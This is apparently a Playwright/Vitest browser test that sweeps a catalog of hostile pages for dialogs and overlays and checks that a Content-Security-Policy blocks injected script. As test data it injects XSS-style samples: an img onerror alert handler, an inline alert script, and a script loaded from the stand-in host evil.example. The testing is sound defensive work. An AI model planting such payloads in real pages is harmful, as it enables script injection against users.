/**
 * The hostile catalog in Chromium, browsed the way a curious visitor (or a fuzzer) would: every
 * event a handler could wait for fired on every element, focusable elements reached with Tab, each
 * screen swept with the mouse, at phone and desktop widths. No dialog may open and no injected overlay may exist. Then the
 * defence behind the sanitiser: markup injected into the live page (as if something slipped
 * through) cannot run, because the page's Content-Security-Policy blocks inline script.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from '../helpers/browser.ts';
import { HOSTILE_PAGES } from '../helpers/hostile-catalog.ts';
import { startStaticServer, stopStaticServer, type StaticServer } from '../helpers/static-server.ts';

const VIEWPORTS = [
  { name: 'phone', width: 360, height: 640 },
  { name: 'desktop', width: 1280, height: 800 },
];

let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  server = await startStaticServer(inject('hostileDist'));
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await stopStaticServer(server);
});

async function open(url: string, viewport: { width: number; height: number }) {
  const context = await browser.newContext({ viewport });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  // Links in the hostile content must not take the sweep anywhere.
  await page.route(/^(?!http:\/\/127\.0\.0\.1)/, (route) => route.abort());
  await page.goto(`${server.url}${url}`, { waitUntil: 'networkidle' });
  return { page, dialogs };
}

/** Events a handler attribute could wait for, fired on every element (a synthetic event runs inline handlers too). */
const EVENTS = ['mouseover', 'mouseenter', 'mousemove', 'pointerover', 'focus', 'focusin', 'animationstart', 'toggle', 'load', 'error'];

/** Fires those events on every element, tabs through the page, and sweeps each screen with the mouse. */
async function sweep(page: Page, viewport: { width: number; height: number }) {
  await page.evaluate((events) => {
    for (const el of document.querySelectorAll('*')) for (const type of events) el.dispatchEvent(new Event(type, { bubbles: false }));
  }, EVENTS);
  for (let i = 0; i < 60; i++) await page.keyboard.press('Tab');
  const height = await page.evaluate(() => document.body.scrollHeight);
  for (let top = 0; top < Math.min(height, viewport.height * 6); top += viewport.height) {
    await page.evaluate((y) => window.scrollTo(0, y), top);
    for (let y = 0; y < viewport.height; y += 48) await page.mouse.move(viewport.width / 2, y, { steps: 0 });
    for (let x = 0; x < viewport.width; x += 40) await page.mouse.move(x, viewport.height / 2);
  }
}

describe.each(VIEWPORTS)('the hostile catalog on a $name', (viewport) => {
  it.each(HOSTILE_PAGES)('%s: no dialog after hover, Tab and a mouse sweep; no overlay; no duplicate id', async (url) => {
    const { page, dialogs } = await open(url, viewport);
    await sweep(page, viewport);
    await page.waitForTimeout(200);
    expect(dialogs).toEqual([]);
    const found = await page.evaluate(() => {
      const covering = [...document.querySelectorAll<HTMLElement>('body *')].filter((el) => {
        const style = getComputedStyle(el);
        const box = el.getBoundingClientRect();
        return (style.position === 'fixed' || style.position === 'absolute') && box.width * box.height > innerWidth * innerHeight * 0.5;
      });
      const ids = [...document.querySelectorAll('[id]')].map((el) => el.id);
      return {
        covering: covering.map((el) => el.outerHTML.slice(0, 120)),
        duplicateIds: ids.filter((id, i) => ids.indexOf(id) !== i),
        styled: [...document.querySelectorAll('[style]')].map((el) => el.outerHTML.slice(0, 120)),
      };
    });
    expect(found).toEqual({ covering: [], duplicateIds: [], styled: [] });
    await page.context().close();
  });
});

describe('the Content-Security-Policy', () => {
  it('stops an inline handler and an inline script injected into a live page, and reports the violation', async () => {
    const { page, dialogs } = await open(HOSTILE_PAGES[1]!, VIEWPORTS[0]!);
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const w = window as unknown as Record<string, unknown>;
      document.body.insertAdjacentHTML('beforeend', '<img src="/khong-co.png" onerror="window.__ran = 1; alert(1)">');
      const script = document.createElement('script');
      script.textContent = 'window.__ranScript = 1; alert(2)';
      document.body.append(script);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { ran: w['__ran'] ?? null, ranScript: w['__ranScript'] ?? null, violations };
    });
    expect(dialogs).toEqual([]);
    expect(result.ran).toBeNull();
    expect(result.ranScript).toBeNull();
    expect(result.violations.length).toBeGreaterThanOrEqual(3);
    await page.context().close();
  });
});
